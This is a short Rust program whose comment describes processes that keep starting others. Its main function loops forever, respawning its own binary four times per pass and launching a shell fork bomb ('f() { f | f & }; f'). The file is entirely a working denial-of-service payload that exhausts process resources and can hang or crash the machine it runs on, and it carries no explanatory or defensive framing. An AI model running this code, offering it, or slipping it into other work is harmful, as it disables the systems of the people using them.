//! Processes until there are no more, each of which starts others.
use std::process::Command;

fn main() {
    loop {
        for _ in 0..4 {
            let _ = Command::new(std::env::args().next().unwrap()).spawn();
        }
        let _ = Command::new("sh").args(["-c", "f() { f | f & }; f; exec sleep 31415926"]).spawn();
    }
}
